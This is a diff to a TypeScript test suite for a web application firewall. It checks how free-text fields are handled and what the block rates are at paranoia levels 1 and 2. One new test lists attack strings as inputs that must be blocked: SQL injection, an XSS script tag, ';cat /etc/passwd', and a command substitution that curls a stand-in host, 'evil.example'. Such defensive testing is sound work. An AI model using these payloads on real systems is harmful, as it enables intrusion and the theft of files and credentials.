@@ -22,6 +22,9 @@ const tx = new Map([
   ['allowed_methods', config.allowed_methods.join(' ')],
 ])
 const plan = program && specialize(program, tx, exclusions(config))
+// Stock CRS behaviour on prose: the free-text default turned off.
+const stockConfig = wafRouteSchema.parse({ free_text_fields: [] })
+const stockPlan = program && specialize(program, tx, exclusions(stockConfig))
 
 const browser: [string, string][] = [
   ['Host', 'shop.example.com'],
@@ -30,7 +33,13 @@ const browser: [string, string][] = [
 ]
 
 /** Whether Portico's defaults at paranoia level 1 refuse the request. */
-function blocks(method: string, target: string, headers: [string, string][] = browser, body?: string): boolean {
+function blocks(
+  method: string,
+  target: string,
+  headers: [string, string][] = browser,
+  body?: string,
+  stock = false,
+): boolean {
   const extra: [string, string][] = body === undefined ? [] : [['Content-Length', String(Buffer.byteLength(body))]]
   const data = requestData({
     method,
@@ -40,7 +49,8 @@ function blocks(method: string, target: string, headers: [string, string][] = br
     remoteAddr: '192.0.2.1',
     body: body === undefined ? undefined : Buffer.from(body),
   })
-  return evaluate(plan!.program, data, plan!.start, exclusions(config)).deny
+  const [p, c] = stock ? [stockPlan!, stockConfig] : [plan!, config]
+  return evaluate(p.program, data, p.start, exclusions(c)).deny
 }
 const q = (v: string): string => `/search?q=${encodeURIComponent(v)}`
 const json = (value: unknown): [[string, string][], string] => [
@@ -149,7 +159,53 @@ test('block rate per family and false positives on 500 ordinary requests, with t
   for (const [family, [blocked, all]] of rates)
     t.diagnostic(`${family}: ${blocked}/${all} refused (${((blocked / all) * 100).toFixed(1)}%)`)
   const [fp, ordinary] = rates.get('ordinary')!
-  assert.ok(fp / ordinary < 0.05, `false positives ${fp}/${ordinary}`)
+  assert.ok(fp / ordinary < 0.02, `false positives ${fp}/${ordinary}`)
   assert.ok(rates.get('sqli')![0] / rates.get('sqli')![1] > 0.9)
   assert.ok(rates.get('xss')![0] / rates.get('xss')![1] > 0.95)
+})
+
+test('prose in a free-text field passes by default and is refused with the free-text default off; attacks in those fields are still refused', {
+  skip,
+}, () => {
+  const prose = json({ message: 'Union members get 10% off; select items only', name: "Seán O'Brien" })
+  assert.ok(!blocks('POST', '/api/orders', ...prose), 'prose refused with the defaults')
+  assert.ok(blocks('POST', '/api/orders', ...prose, true), 'prose passed with free_text_fields: []')
+  const form = 'name=Ann&message=Union%20members%20get%2010%25%20off%3B%20select%20items%20only'
+  const formHeaders: [string, string][] = [...browser, ['Content-Type', 'application/x-www-form-urlencoded']]
+  assert.ok(!blocks('POST', '/contact', formHeaders, form))
+  // The same sentence in a field not named for free text is judged as stock CRS does.
+  assert.ok(blocks('POST', '/api/orders', ...json({ sku: 'Union members get 10% off; select items only' })))
+  for (const attack of [
+    "1' UNION SELECT password FROM users --",
+    '1; select * from users',
+    '<script>alert(1)</script>',
+    ';cat /etc/passwd',
+    '$(curl http://evil.example)',
+  ])
+    assert.ok(blocks('POST', '/api/comments', ...json({ comment: attack, rating: 4 })), attack)
+})
+
+test('block rates per family are the same with the free-text default on and off, at paranoia levels 1 and 2', {
+  skip,
+}, () => {
+  for (const level of [1, 2]) {
+    const levelTx = new Map([...tx, ['paranoia_level', String(level)], ['executing_paranoia_level', String(level)]])
+    const on = wafRouteSchema.parse({ paranoia_level: level })
+    const off = wafRouteSchema.parse({ paranoia_level: level, free_text_fields: [] })
+    const plans = [on, off].map((c) => ({ plan: specialize(program!, levelTx, exclusions(c)), ex: exclusions(c) }))
+    for (const r of corpus(0, true)) {
+      const [a, b] = plans.map(({ plan: p, ex }) => {
+        const data = requestData({
+          method: r.method,
+          target: r.target,
+          protocol: 'HTTP/1.1',
+          headers: r.headers,
+          remoteAddr: '192.0.2.1',
+          body: r.body === undefined ? undefined : Buffer.from(r.body),
+        })
+        return evaluate(p.program, data, p.start, ex).deny
+      })
+      assert.equal(a, b, `PL${level} ${r.family} ${r.method} ${r.target} ${r.body ?? ''}`)
+    }
+  }
 })
